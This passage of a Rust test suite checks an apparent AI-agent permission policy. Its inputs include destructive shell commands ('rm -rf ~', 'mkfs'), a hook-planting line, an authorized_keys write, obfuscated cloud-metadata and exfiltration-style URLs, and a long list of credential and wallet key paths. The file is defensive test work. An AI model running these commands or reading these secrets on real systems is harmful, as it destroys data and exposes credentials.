//! The built-in knowledge through the default policy, as a user meets it: secret locations
//! judged alike by the file tools and the shell (one table), toolchains, fetches, tool names.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "test code: a panic is a failed test"
)]

use airlock_policy::{Call, Context, Decision, Policy, Tier};
use serde_json::{Value, json};

fn ctx() -> Context {
    let mut ctx = Context::default();
    ctx.workspace = Some("/home/u/proj".into());
    ctx.home = Some("/home/u".into());
    ctx.protected = vec!["/home/u/.config/airlock".into()].into();
    ctx
}

fn resolve_with(policy: &Policy, tool: &str, args: Value, ctx: &Context) -> Decision {
    let call = Call::new(tool, None, &args);
    policy.resolve(&call, ctx)
}

fn resolve(tool: &str, args: Value) -> Decision {
    resolve_with(&Policy::default_policy(), tool, args, &ctx())
}

/// The `Read` tool and `cat` agree on every secret location, in every spelling, and under
/// autonomy (a sub-agent that answers `ask_once` itself) both still ask.
#[test]
fn read_and_cat_agree_on_secret_locations() {
    let secret = [
        "~/.config/gcloud/credentials.db",
        "/home/u/.config/gcloud/application_default_credentials.json",
        "~/.azure/accessTokens.json",
        "~/.cargo/credentials",
        "~/.cargo/credentials.toml",
        "~/.npmrc",
        "~/.pypirc",
        "~/.netrc",
        "~/.git-credentials",
        "~/.docker/config.json",
        "~/.kube/config",
        "~/.terraform.d/credentials.tfrc.json",
        "~/.vault-token",
        "~/.ssh/id_ed25519",
        "~/.aws/credentials",
        "config/secrets.yaml",
        "config/secrets.yml",
        ".env",
        ".ENV",
        ".Env.local",
        "deploy/.env.production",
        "/proc/self/environ",
        "/etc/shadow",
        "infra/terraform.tfstate",
        "terraform/envs/dev/secrets.auto.tfvars",
        "envs/prod.tfvars",
        "config/prod.secret.exs",
        "deploy/prod-secrets.json",
        "conf/db_credentials.ini",
        "keys/jwt_private_key.txt",
        "deploy/client_secret",
        // Frameworks' local settings, by the folder they sit in or by their own names.
        "config/local.toml",
        "config/local.json",
        "config/local.ts",
        "services/api/config/local-development.yaml",
        "config/database.local.yml",
        "instance/config.py",
        "instance/app.cfg",
        "shop/local_settings.py",
        "settings_local.py",
        "settings.local.json",
        "local.settings.json",
        "src/Api/appsettings.Development.local.json",
        ".dev.vars",
        ".secrets.toml",
        "config/master.key",
        "config/credentials/production.key",
        ".streamlit/secrets.toml",
        // A CLI's settings in the home, which often hold its login.
        "~/.config/netlify/config.json",
        "/home/u/.config/vercel/config.json",
        "~/.netlify/config.json",
        "~/.fly/config.yml",
        "~/.config/hatch/config.toml",
        "~/.config/configstore/firebase-tools.json",
        // Secrets files by name, and private and decryption keys.
        ".kamal/secrets",
        ".kamal/secrets-common",
        ".kamal/secrets.staging",
        "deploy/secret",
        "./secrets",
        "config/secrets/prod/prod.decrypt.private.php",
        "config/jwt/private.pem",
        "storage/oauth-private.key",
        "ios/AuthKey_AB12CD34.p8",
        "android/app/upload-keystore.jks",
        "certs/client.p12",
        // Mobile and desktop signing: Android's local and signing settings, Firebase's app
        // configuration, adb's key, Tauri's updater keys and passwords kept in files.
        "local.properties",
        "android/local.properties",
        "keystore.properties",
        "android/key.properties",
        "app/signing.properties",
        "app/google-services.json",
        "ios/Runner/GoogleService-Info.plist",
        "~/.android/adbkey",
        "~/.tauri/inkpad.key",
        "~/.tauri/inkpad.key.password",
        "keys/store.passwd",
        "keystore-password.txt",
        // Wallets' keypairs and keystores: every Solana keypair, a program's deploy keypair,
        // Ethereum's, Sui's, Aptos's, NEAR's, Bitcoin's and Cardano's keys.
        "~/.config/solana/id.json",
        "~/.config/solana/mainnet-upgrade-authority.json",
        "target/deploy/treasury-keypair.json",
        "~/.foundry/keystores/deployer",
        "~/.ethereum/keystore/UTC--2024-01-01T00-00-00Z--9a3f",
        "~/.sui/sui_config/sui.keystore",
        ".aptos/config.yaml",
        "~/.near-credentials/mainnet/treasury.near.json",
        "~/.bitcoin/wallet.dat",
        "~/.bitcoin/wallets/main/wallet.dat",
        "keys/payment.skey",
    ];
    let mut auto = ctx();
    auto.auto_approve = true;
    let policy = Policy::default_policy();
    for path in secret {
        for c in [ctx(), auto.clone()] {
            let read = resolve_with(&policy, "Read", json!({ "file_path": path }), &c);
            let cat = resolve_with(
                &policy,
                "Bash",
                json!({ "command": format!("cat {path}") }),
                &c,
            );
            assert_eq!(
                read.tier(),
                Tier::AlwaysAsk,
                "Read {path}: {}",
                read.reason()
            );
            assert_eq!(cat.tier(), Tier::AlwaysAsk, "cat {path}: {}", cat.reason());
            assert_eq!(read.action(), cat.action(), "{path}");
        }
    }
    for path in [
        "src/main.rs",
        ".env.example",
        "config/settings.yaml",
        "Cargo.toml",
        // Their templates, and the same names outside their folders.
        "config/local.toml.example",
        "instance/config.py.sample",
        "local_settings.py.template",
        ".dev.vars.example",
        "config/default.json",
        "src/config/local.rs",
        "instance/models.py",
        "src/main/resources/application-local.yml",
        // A project's own dot-folders' settings (the workspace lies in the home).
        ".changeset/config.json",
        ".circleci/config.yml",
        "/home/u/proj/.cargo/config.toml",
        // Public halves of keys, certificates, and code named for secrets.
        "config/secrets/prod/prod.encrypt.public.php",
        "config/jwt/public.pem",
        "storage/oauth-public.key",
        "certs/server.crt",
        "certs/server.csr",
        "local.properties.example",
        "gradle.properties",
        "lib/secrets.py",
        "src/secrets-manager.ts",
        // A chain project's interface and build output, and a Cardano verification key.
        "target/idl/treasury.json",
        "target/types/treasury.ts",
        "keys/payment.vkey",
    ] {
        let read = resolve("Read", json!({ "file_path": path }));
        let cat = resolve("Bash", json!({ "command": format!("cat {path}") }));
        assert_eq!(read.tier(), Tier::Allow, "Read {path}: {}", read.reason());
        assert_eq!(cat.tier(), Tier::Allow, "cat {path}: {}", cat.reason());
    }
}

/// git's own settings in the home hold names and aliases, not a login (its stored passwords
/// are `~/.git-credentials`): reading them is a read outside the workspace, never a secret's.
#[test]
fn gits_settings_in_the_home_are_no_secret() {
    for path in [
        "~/.config/git/config",
        "~/.gitconfig",
        "~/.cargo/config.toml",
    ] {
        let read = resolve("Read", json!({ "file_path": path }));
        assert_ne!(
            read.tier(),
            Tier::AlwaysAsk,
            "Read {path}: {}",
            read.reason()
        );
    }
    let read = resolve("Read", json!({ "file_path": "~/.git-credentials" }));
    assert_eq!(read.tier(), Tier::AlwaysAsk, "{}", read.reason());
}

/// Issue 21: a toolchain's builds and tests carry the family as their grant key; the sandbox
/// lowers a build it contains, never a program that talks to a daemon or a service outside it.
#[test]
fn toolchain_families_are_grant_keys_and_outside_programs_stay_asked() {
    let policy = Policy::default_policy();
    let bash = |cmd: &str, c: &Context| resolve_with(&policy, "Bash", json!({ "command": cmd }), c);
    let project = "command:project build/test/run";
    for (cmd, key) in [
        ("cargo test", project),
        ("cargo clippy --all-targets", project),
        ("npm run build", project),
        ("pnpm build", project),
        ("npx vitest run", project),
        ("npm ci", project),
        ("npm install", project),
        ("python manage.py migrate", project),
        ("python manage.py dbshell -- -c '\\dt'", project),
        ("./manage.py check", project),
        ("pytest -x", project),
        ("go test ./...", project),
        ("make test", project),
        ("./gradlew check", project),
        ("mvn verify", project),
        ("dotnet test", project),
        ("celery -A config worker", project),
        ("createdb app_test", project),
        ("./target/release/api --help", project),
        ("rm -rf dist target", project),
        ("npm install express", "command:project build/test/run"),
        ("pnpm add zod", "command:project build/test/run"),
        ("cargo add thiserror", "command:project build/test/run"),
        (
            "go get example.com/m@v1.2.0",
            "command:project build/test/run",
        ),
        ("uv add httpx", "command:project build/test/run"),
        ("poetry add httpx", "command:project build/test/run"),
        (
            "dotnet add package Serilog",
            "command:project build/test/run",
        ),
        ("bundle add rspec", "command:project build/test/run"),
        // The project's own compose file is run as its Makefile would run it.
        ("docker compose up -d", project),
        (
            "docker compose -p other up -d",
            "command:docker build/run/compose",
        ),
        ("git rebase -i main", "command:git add/commit/branch"),
        ("git commit --amend -m x", "command:git add/commit/branch"),
        ("createuser app", "command:database setup"),
        (
            "celery -A config -b amqp://mq.acme.io worker",
            "command:celery worker",
        ),
        ("python manage.py shell", "command:python manage.py shell"),
        (
            "python manage.py migrate shop 0003",
            "command:python manage.py migrate",
        ),
    ] {
        let d = bash(cmd, &ctx());
        assert_eq!(d.tier(), Tier::AskOnce, "{cmd}");
        assert_eq!(d.actions()[0].grant_key.to_string(), key, "{cmd}");
    }
    // A broker on a host named production is production: always asked.
    assert_eq!(
        bash("celery -A config -b amqp://prod worker", &ctx()).tier(),
        Tier::AlwaysAsk
    );
    let mut sandboxed = ctx();
    sandboxed.sandboxed = true;
    sandboxed.auto_approve = true;
    assert_eq!(
        bash("cargo test", &sandboxed).action(),
        airlock_policy::Action::Allow
    );
    for cmd in [
        "docker compose up -d",
        "podman run x",
        "kubectl port-forward svc/web 8080",
        "psql -d app -c 'insert into t values (1)'",
        "redis-cli set k v",
        "sqlx migrate run",
        "prisma migrate dev",
    ] {
        let d = bash(cmd, &sandboxed);
        assert_eq!(
            d.action(),
            airlock_policy::Action::Ask,
            "{cmd}: {:?}",
            d.trail()
        );
    }
}

/// Issue 21: a command that only writes its output into an ordinary file of the workspace is
/// the file tools' one family there (a yes to Edit covers `cargo metadata > deps.json`, and the
/// other way round); output into a secret file, a repository hook, outside the workspace or to a
/// path built at run time never is, and a command asked for itself keeps its own key.
#[test]
fn shell_output_into_the_workspace_is_the_file_writes_family() {
    let family = "files:write in the workspace";
    let bash = |cmd: &str| resolve("Bash", json!({ "command": cmd }));
    for cmd in [
        "ls -R src > files.txt",
        "cargo metadata --format-version 1 > target-deps.json",
        "git log --oneline -20 > notes/changes.md",
        "echo 'DEBUG=true' >> config/dev.ini",
        "cd docs && grep -rn TODO . > todo.txt",
        "printf '%s\\n' a b > /home/u/proj/list.txt",
    ] {
        let d = bash(cmd);
        assert_eq!(d.tier(), Tier::AskOnce, "{cmd}: {:?}", d.trail());
        let last = d.actions().last().map(|a| a.grant_key.to_string());
        assert_eq!(last.as_deref(), Some(family), "{cmd}");
    }
    for cmd in [
        "echo 'API_KEY=x' > .env",
        "echo x >> .ENV.local",
        "cat id_rsa.pub > ~/.ssh/authorized_keys",
        "echo 'rm -rf ~' > .git/hooks/pre-commit",
        "echo x > /etc/hosts",
        "echo x > \"$OUT\"",
        "cargo test > test-output.txt",
    ] {
        let d = bash(cmd);
        assert!(
            d.actions()
                .iter()
                .all(|a| format!("{}", a.grant_key) != family),
            "{cmd}: {:?}",
            d.trail()
        );
    }
    assert_eq!(
        bash("echo x > .git/hooks/pre-commit").tier(),
        Tier::AlwaysAsk
    );
    // As the file tools' writes to a secret file do, output into one always asks.
    assert_eq!(bash("echo 'API_KEY=x' > .env").tier(), Tier::AlwaysAsk);
    assert_eq!(bash("echo x >> .ENV.local").tier(), Tier::AlwaysAsk);
    assert_eq!(bash("echo x > config/secrets.yml").tier(), Tier::AlwaysAsk);
    assert_eq!(bash("echo x > /etc/hosts").tier(), Tier::AlwaysAsk);
    assert_eq!(
        bash("cargo test > test-output.txt").actions()[0]
            .grant_key
            .to_string(),
        "command:project build/test/run"
    );
}

/// Issue 21: every file tool's writes in the workspace are one session family (one approval
/// covers Edit, Write, MultiEdit and NotebookEdit alike); writes to secrets, `.git`, airlock's
/// own files and outside the workspace are never in it.
#[test]
fn workspace_file_writes_are_one_family() {
    let family = "files:write in the workspace";
    for (tool, field, path) in [
        ("Edit", "file_path", "/home/u/proj/src/main.rs"),
        ("Edit", "file_path", "src/lib.rs"),
        ("Write", "file_path", "/home/u/proj/src/new.ts"),
        ("Write", "file_path", "./docs/README.md"),
        ("MultiEdit", "file_path", "/home/u/proj/app/views.py"),
        (
            "NotebookEdit",
            "notebook_path",
            "/home/u/proj/nb/analysis.ipynb",
        ),
        ("Write", "file_path", "/home/u/proj/.gitignore"),
        (
            "Write",
            "file_path",
            "/home/u/proj/.github/workflows/ci.yml",
        ),
    ] {
        let d = resolve(tool, json!({ field: path }));
        assert_eq!(d.tier(), Tier::AskOnce, "{tool} {path}: {:?}", d.trail());
        assert_eq!(
            d.actions()[0].grant_key.to_string(),
            family,
            "{tool} {path}"
        );
    }
    for (tool, field, path, tier) in [
        ("Write", "file_path", "/home/u/proj/.env", Tier::AlwaysAsk),
        (
            "Edit",
            "file_path",
            "/home/u/proj/.ENV.local",
            Tier::AlwaysAsk,
        ),
        // Hooks that git runs on a commit, which runs without asking.
        (
            "Write",
            "file_path",
            "/home/u/proj/.husky/pre-commit",
            Tier::AlwaysAsk,
        ),
        (
            "Edit",
            "file_path",
            "/home/u/proj/.githooks/pre-push",
            Tier::AlwaysAsk,
        ),
        (
            "Edit",
            "file_path",
            "/home/u/proj/.pre-commit-config.yaml",
            Tier::AlwaysAsk,
        ),
        (
            "Write",
            "file_path",
            "/home/u/proj/web/lefthook.yml",
            Tier::AlwaysAsk,
        ),
        (
            "Write",
            "file_path",
            "/home/u/proj/.git/hooks/pre-commit",
            Tier::AlwaysAsk,
        ),
        (
            "Edit",
            "file_path",
            "/home/u/proj/.git/config",
            Tier::AlwaysAsk,
        ),
        ("Write", "file_path", ".GIT/HEAD", Tier::AlwaysAsk),
        (
            "MultiEdit",
            "file_path",
            "/home/u/proj/sub/.git/config",
            Tier::AlwaysAsk,
        ),
        ("Write", "file_path", "/home/u/.bashrc", Tier::AlwaysAsk),
        ("Edit", "file_path", "/etc/hosts", Tier::AlwaysAsk),
        (
            "Write",
            "file_path",
            "/home/u/proj/../other/x.rs",
            Tier::AlwaysAsk,
        ),
        (
            "Write",
            "file_path",
            "/home/u/.ssh/authorized_keys",
            Tier::AlwaysAsk,
        ),
        (
            "Write",
            "file_path",
            "/home/u/.config/airlock/policy.toml",
            Tier::Deny,
        ),
    ] {
        let d = resolve(tool, json!({ field: path }));
        assert_eq!(d.tier(), tier, "{tool} {path}: {:?}", d.trail());
    }
}

/// Issue 21: the trail names the table row that decided.
#[test]
fn the_trail_names_the_knowledge_row() {
    let d = resolve("Bash", json!({ "command": "cargo publish" }));
    assert_eq!(d.tier(), Tier::AlwaysAsk);
    let trail: Vec<String> = d.trail().iter().map(|s| s.detail.to_string()).collect();
    assert!(
        trail
            .iter()
            .any(|t| t.starts_with("knowledge: cargo publish (publishing)")),
        "{trail:#?}"
    );
    assert_eq!(
        d.rule().to_string(),
        "built-in: knowledge: cargo publish (publishing)"
    );
}

/// Issue 21: shell tool names in any letter case are shell tools: their scripts are read.
#[test]
fn shell_tools_in_any_letter_case() {
    for tool in [
        "Bash",
        "bash",
        "BASH",
        "bAsH",
        "Shell",
        "SHELL",
        "Run_Bash",
        "RUN_SHELL_COMMAND",
    ] {
        let d = resolve(tool, json!({ "command": "rm -rf ~" }));
        assert_eq!(d.tier(), Tier::Deny, "{tool}: {}", d.reason());
        let d = resolve(tool, json!({ "command": "ls" }));
        assert_eq!(d.tier(), Tier::Allow, "{tool}: {}", d.reason());
    }
}

/// Issue 21: the default policy's deny entries match the normal forms of their commands.
#[test]
fn deny_entries_match_normalised_commands() {
    for cmd in [
        "rm -rf ~",
        "rm -rf ~/",
        "rm -fr ~",
        "rm -rf $HOME",
        "rm -rf \"$HOME\"",
        "rm -rf ${HOME}/",
        "rm -r -f /home/u",
        "rm --recursive --force ~",
        "rm -Rf /home/u/",
        "sudo rm -rf ~",
        "/bin/rm -rf ~",
        "cd /tmp && rm -rf ~/*",
        "rm -rf /",
        "rm -rf //",
        "rm -rf --no-preserve-root /",
        "rm -fr /*",
        "mkfs.ext4 /dev/sda1",
        "mkfs -t ext4 /dev/sdb",
    ] {
        let d = resolve("Bash", json!({ "command": cmd }));
        assert_eq!(d.tier(), Tier::Deny, "{cmd}: {}", d.reason());
    }
    for cmd in ["rm -rf ~/proj/target", "rm -rf build", "rm -rf /tmp/x"] {
        let d = resolve("Bash", json!({ "command": cmd }));
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{cmd}: {}", d.reason());
    }
}

/// Issue 21: a script over 8 KiB or 200 commands always asks, whatever its commands are; a
/// deny entry among them still denies.
#[test]
fn long_scripts_always_ask() {
    let many = vec!["ls"; 201].join("; ");
    let big = format!("echo {}", "a".repeat(9000));
    for script in [many.as_str(), big.as_str()] {
        let d = resolve("Bash", json!({ "command": script }));
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{}", d.reason());
        assert!(d.reason().contains("over the limit"), "{}", d.reason());
    }
    let short = vec!["ls"; 200].join("; ");
    assert_eq!(
        resolve("Bash", json!({ "command": short })).tier(),
        Tier::Allow
    );
    let denied = format!("{many}; rm -rf /");
    assert_eq!(
        resolve("Bash", json!({ "command": denied })).tier(),
        Tier::Deny
    );
}

/// Issue 21: delegation tools are known by default; a delegation from depth d starts an agent
/// at depth d + 1, denied beyond `max_delegation_depth` (2 by default).
#[test]
fn delegation_tools_are_known_and_limited() {
    let policy = Policy::default_policy();
    for tool in ["Task", "Agent", "delegate_task", "spawn_agent"] {
        for (depth, want) in [
            (0, Tier::Allow),
            (1, Tier::Allow),
            (2, Tier::Deny),
            (5, Tier::Deny),
        ] {
            let mut c = ctx();
            c.depth = depth;
            let d = resolve_with(&policy, tool, json!({ "prompt": "x" }), &c);
            assert_eq!(d.tier(), want, "{tool} at depth {depth}: {}", d.reason());
        }
    }
}

/// Issue 21: the seed's write tools are writes in the default policy, and a name that changes
/// credentials, auth or keys is a write.
#[test]
fn write_tools_and_credential_names_are_writes() {
    for tool in ["memory_save", "note_save", "set_api_key", "manage_auth"] {
        let d = resolve(tool, json!({}));
        assert_eq!(d.class(), airlock_policy::Class::Write, "{tool}");
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{tool}");
    }
    for tool in [
        "manage_auth_profile",
        "rotate_key",
        "revokeToken",
        "api_key_rotate",
        "reset_password",
        "oauth_refresh",
        "grant_role",
    ] {
        let d = resolve(tool, json!({}));
        assert_eq!(d.class(), airlock_policy::Class::Write, "{tool}");
    }
    for tool in [
        "get_api_key_status",
        "list_tokens",
        "count_tokens",
        "search_docs",
    ] {
        let d = resolve(tool, json!({}));
        assert_ne!(d.class(), airlock_policy::Class::Write, "{tool}");
    }
}

/// Issue 21: WebFetch of URLs with credentials or long blobs, of metadata services in any
/// spelling and of `file://` always asks; an ordinary page asks once as before.
#[test]
fn risky_fetches_always_ask() {
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/",
        "http://0xa9fea9fe/",
        "http://0251.0376.0251.0376/",
        "http://[fd00:ec2::254]/latest/",
        "http://[::ffff:169.254.169.254]/",
        "http://metadata.google.internal./computeMetadata/v1/",
        "file:///etc/passwd",
        "https://u:p@example.com/",
        "https://example.com/?token=abc",
    ] {
        let d = resolve("WebFetch", json!({ "url": url, "prompt": "summarise" }));
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{url}: {}", d.reason());
        assert!(
            !d.reason().contains("u:p@"),
            "the reason is masked: {}",
            d.reason()
        );
    }
    let d = resolve(
        "WebFetch",
        json!({ "url": "https://example.com/blog/post", "prompt": "x" }),
    );
    assert_eq!(d.tier(), Tier::AskOnce, "{}", d.reason());
}

/// Issue 21: a page of a documentation host (the built-in table) is a read, named by its row;
/// a look-alike host, another scheme or port, a user part and the risky-URL cases on a
/// documentation host still ask.
#[test]
fn documentation_pages_read() {
    for (url, row) in [
        ("https://docs.rs/serde", "docs.rs"),
        ("https://DOCS.RS:443/serde/latest/serde/", "docs.rs"),
        (
            "https://restic.readthedocs.io/en/stable/",
            "*.readthedocs.io",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web",
            "developer.mozilla.org",
        ),
        ("https://pkg.go.dev/net/http", "pkg.go.dev"),
        ("https://pypi.org/project/httpx/", "pypi.org"),
    ] {
        let d = resolve("WebFetch", json!({ "url": url, "prompt": "summarise" }));
        assert_eq!(d.tier(), Tier::Allow, "{url}: {}", d.reason());
        assert!(d.rule().contains(row), "{url}: {}", d.rule());
    }
    for (url, tier) in [
        ("https://evil.com/docs.rs", Tier::AskOnce),
        ("https://docs-rs.com/serde", Tier::AskOnce),
        ("https://docs.rs:8443/serde", Tier::AskOnce),
        ("http://docs.rs/serde", Tier::AskOnce),
        ("https://readthedocs.io/", Tier::AskOnce),
        ("https://docs.rs@evil.com/", Tier::AlwaysAsk),
        ("https://u:p@docs.rs/", Tier::AlwaysAsk),
        ("https://docs.rs/x?token=abcdef", Tier::AlwaysAsk),
        ("https://pypi.org/simple?api_key=abcdef", Tier::AlwaysAsk),
        (
            "https://evil.readthedocs.io/QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk",
            Tier::AlwaysAsk,
        ),
    ] {
        let d = resolve("WebFetch", json!({ "url": url, "prompt": "summarise" }));
        assert_eq!(d.tier(), tier, "{url}: {}", d.reason());
    }
    // A look-alike of a row's name is never that row; its own shape (a `docs.` host, plain
    // words) is judged as any other host's.
    let d = resolve(
        "WebFetch",
        json!({ "url": "https://docs.rs.evil.com/serde", "prompt": "summarise" }),
    );
    assert!(!d.rule().contains("row `docs.rs`"), "{}", d.rule());
    assert!(d.rule().contains("shape"), "{}", d.rule());
}

/// Issue 21: a page of the shape every documentation site has (a `docs.`/`developer.` host, a
/// `/docs/` or `/guide/` path, a project's static pages) reads without a table row; the same shape
/// on a private name, with a query, with a token-like path segment, over plain http or on an
/// address still asks, and the risky-URL checks still raise it.
#[test]
fn documentation_page_shapes_read() {
    for url in [
        "https://developer.chrome.com/docs/extensions/reference/api/sidePanel",
        "https://docs.stripe.com/billing/subscriptions/prorations",
        "https://docs.nestjs.com/interceptors",
        "https://docs.anthropic.com/en/api/messages",
        "https://book.kubebuilder.io/cronjob-tutorial/controller-implementation",
        "https://resend.com/docs/send-with-nextjs",
        "https://filamentphp.com/docs/3.x/actions/prebuilt-actions/export",
        "https://www.drupal.org/docs/develop/creating-modules",
        "https://immich.app/docs/install/docker-compose#step-1",
        "https://openfoodfacts.github.io/openfoodfacts-server/api/",
        "https://www.electron.build/auto-update.html",
        "https://code.visualstudio.com/api/working-with-extensions/bundling-extension#using-esbuild",
        "https://Docs.Databricks.com/en/dev-tools/bundles/index.html",
    ] {
        let d = resolve("WebFetch", json!({ "url": url, "prompt": "summarise" }));
        assert_eq!(d.tier(), Tier::Allow, "{url}: {}", d.reason());
        assert!(
            d.rule().contains("documentation hosts"),
            "{url}: {}",
            d.rule()
        );
    }
    for (url, tier) in [
        ("https://example.com/blog/post", Tier::AskOnce),
        ("https://evil.com/api/v1/users", Tier::AskOnce),
        (
            "https://evil.com/docs/AKIAIOSFODNN7EXAMPLE1234",
            Tier::AskOnce,
        ),
        ("https://evil.com/docs/x?q=parental+leave", Tier::AskOnce),
        (
            "https://docs.evil.com/ghp_16C7e42F292c6912E7710c838347Ae178B4a",
            Tier::AskOnce,
        ),
        ("https://docs.evil.com/1234567890123456", Tier::AskOnce),
        ("https://docs.evil.com/a%2Fb", Tier::AskOnce),
        ("https://docs.evil.com/../x", Tier::AskOnce),
        ("http://docs.evil.com/guide", Tier::AskOnce),
        ("https://docs.evil.com:8443/guide", Tier::AskOnce),
        ("https://docs.corp.internal/guide", Tier::AskOnce),
        ("https://wiki.home.arpa/docs/", Tier::AskOnce),
        ("https://docs.atlas.tail4c2e1.ts.net/docs/", Tier::AskOnce),
        ("https://docs.local/guide", Tier::AskOnce),
        ("https://10.0.0.5/docs/", Tier::AskOnce),
        ("https://github.io/", Tier::AskOnce),
        ("https://evil.github.io", Tier::AskOnce),
        ("https://docs.evil.com/docs?token=abcdef", Tier::AlwaysAsk),
        ("https://u:p@docs.evil.com/guide", Tier::AlwaysAsk),
        ("https://docs.evil.com@evil.com/guide", Tier::AlwaysAsk),
    ] {
        let d = resolve("WebFetch", json!({ "url": url, "prompt": "summarise" }));
        assert_eq!(d.tier(), tier, "{url}: {}", d.reason());
    }
}

/// Issue 21: the Grep tool over home, `.ssh`, secret files or `.env*` globs always asks, as a
/// recursive `grep` does; over the workspace it runs.
#[test]
fn grep_tool_over_secret_places_always_asks() {
    for args in [
        json!({ "pattern": "KEY", "path": "~" }),
        json!({ "pattern": "KEY", "path": "/home/u" }),
        json!({ "pattern": "KEY", "path": "/home" }),
        json!({ "pattern": "KEY", "path": "/" }),
        json!({ "pattern": "KEY", "path": "~/.ssh" }),
        json!({ "pattern": "KEY", "path": "/etc" }),
        json!({ "pattern": "KEY", "path": ".env" }),
        json!({ "pattern": "KEY", "path": "config/.ENV.local" }),
        json!({ "pattern": "KEY", "glob": ".env*" }),
        json!({ "pattern": "KEY", "glob": "**/.env.*" }),
        json!({ "pattern": "KEY", "glob": "*.pem" }),
        json!({ "pattern": "KEY", "path": ".kamal/secrets" }),
        json!({ "pattern": "storePassword", "path": "android/key.properties" }),
        json!({ "pattern": "sdk.dir", "path": "local.properties" }),
        json!({ "pattern": "KEY", "path": "~/.tauri" }),
        json!({ "pattern": "api_key", "path": "app/google-services.json" }),
        json!({ "pattern": "KEY", "path": "config/secrets/prod/prod.decrypt.private.php" }),
        json!({ "pattern": "KEY", "glob": "*.p8" }),
    ] {
        let d = resolve("Grep", args.clone());
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{args}: {}", d.reason());
    }
    for args in [
        json!({ "pattern": "fn main" }),
        json!({ "pattern": "fn main", "path": "src" }),
        json!({ "pattern": "x", "glob": "*.rs" }),
    ] {
        let d = resolve("Grep", args.clone());
        assert_eq!(d.tier(), Tier::Allow, "{args}: {}", d.reason());
    }
}

/// Issue 21: a meta-tool inside a meta-tool is read through, up to a depth limit; a shell tool
/// inside one has its script read.
#[test]
fn nested_meta_tools_are_read_through() {
    let meta = "COMPOSIO_MULTI_EXECUTE_TOOL";
    let wrap = |inner: Value| json!({ "tools": [ { "tool_slug": meta, "arguments": inner } ] });
    let send = json!({ "tools": [ { "tool_slug": "GMAIL_SEND_EMAIL", "arguments": {} } ] });
    for levels in 1..=4 {
        let mut args = send.clone();
        for _ in 0..levels {
            args = wrap(args);
        }
        let d = resolve(meta, args);
        assert_eq!(d.tier(), Tier::AlwaysAsk, "{levels}: {}", d.reason());
        assert!(
            d.label().contains("gmail: send email"),
            "{levels}: {}",
            d.label()
        );
    }
    let mut deep = send.clone();
    for _ in 0..8 {
        deep = wrap(deep);
    }
    let d = resolve(meta, deep);
    assert_eq!(d.tier(), Tier::AlwaysAsk, "{}", d.reason());
    assert!(d.reason().contains("nested deeper"), "{}", d.reason());
    let bash =
        json!({ "tools": [ { "tool_slug": "Bash", "arguments": { "command": "rm -rf ~" } } ] });
    assert_eq!(resolve(meta, wrap(bash)).tier(), Tier::Deny);
    let read = json!({ "tools": [ { "tool_slug": "Read", "arguments": { "file_path": "~/.aws/credentials" } } ] });
    assert_eq!(resolve(meta, read).tier(), Tier::AlwaysAsk);
}

/// New dependencies are one session family across toolchains, the project's: a yes to
/// `composer require` is a yes to `npm install -D`, `cargo add`, `uv add`, `go get`… and to the
/// project's builds and tests (a grant is remembered under its key and covers exactly the calls
/// with that key), never to a global or user install, another index, or a package from a URL, a
/// git repository, a path or an archive.
#[test]
fn new_dependencies_are_one_family_across_toolchains() {
    const KEY: &str = "command:project build/test/run";
    let bash = |cmd: &str| resolve("Bash", json!({ "command": cmd }));
    for cmd in [
        "composer require barryvdh/laravel-dompdf",
        "composer require --dev phpstan/phpstan",
        "npm install -D @vitejs/plugin-vue@latest",
        "npm i zod",
        "pnpm add -D typescript",
        "yarn add lodash",
        "bun add hono",
        "uv add --dev pytest-repeat",
        "uv add httpx",
        "poetry add httpx",
        "pip install django-filter",
        "cargo add thiserror",
        "cargo add --dev proptest",
        "go get example.com/m@v1.2.0",
        "bundle add rspec",
        "dotnet add package Serilog",
    ] {
        let d = bash(cmd);
        assert_eq!(d.tier(), Tier::AskOnce, "{cmd}: {:?}", d.trail());
        assert_eq!(d.actions()[0].grant_key.to_string(), KEY, "{cmd}");
    }
    for cmd in [
        "npm install -g typescript",
        "pnpm add -g x",
        "yarn global add x",
        "pip install --user poetry",
        "cargo install ripgrep",
        "go install example.com/tool@latest",
        "composer global require x/y",
        "pip install x -i https://example.com/simple",
        "pip install x --extra-index-url https://example.com/simple",
        "uv add x --index-url https://example.com/simple",
        "npm install x --registry https://example.com",
        "npm install https://example.com/x.tgz",
        "npm install git+https://github.com/x/y.git",
        "npm install ../local-pkg",
        "pip install git+https://github.com/x/y",
        "pip install ./dist/x.whl",
        "cargo add --git https://github.com/x/y y",
        "cargo add --path ../y",
        "uv add git+https://github.com/x/y",
    ] {
        let d = bash(cmd);
        let key = d
            .actions()
            .first()
            .map(|a| a.grant_key.to_string())
            .unwrap_or_default();
        assert!(
            key != KEY || d.tier() == Tier::AlwaysAsk,
            "{cmd}: {:?} under {key}",
            d.tier()
        );
    }
    // What installs a toolchain, a model or an environment outside the project shares the
    // new dependencies' own family, never the project's: a yes to `npm ci` does not cover it.
    for cmd in [
        "sdk install java 21.0.2-tem",
        "huggingface-cli download meta-llama/Llama-3.2-1B",
        "conda install numpy",
    ] {
        let d = bash(cmd);
        assert_eq!(d.tier(), Tier::AskOnce, "{cmd}: {:?}", d.trail());
        let key = d.actions()[0].grant_key.to_string();
        assert_eq!(key, "command:registry add dependency", "{cmd}");
    }
}

/// A file tool's read outside the workspace is judged as the shell's readers judge the same
/// path: a plain file reads at once, a secret location always asks (shell histories among
/// them), a dot-file or dot-folder's file keeps one question, and a write outside always asks.
#[test]
fn reads_outside_the_workspace_follow_the_shells_readers() {
    for path in [
        "~/code/data-handbook/conventions/incremental-models.md",
        "/home/dev/work/design/economy/daily-rewards.md",
        "/etc/hosts",
        "/usr/share/doc/git/README.md",
    ] {
        let read = resolve("Read", json!({ "file_path": path }));
        let cat = resolve("Bash", json!({ "command": format!("cat {path}") }));
        assert_eq!(read.tier(), Tier::Allow, "Read {path}: {}", read.reason());
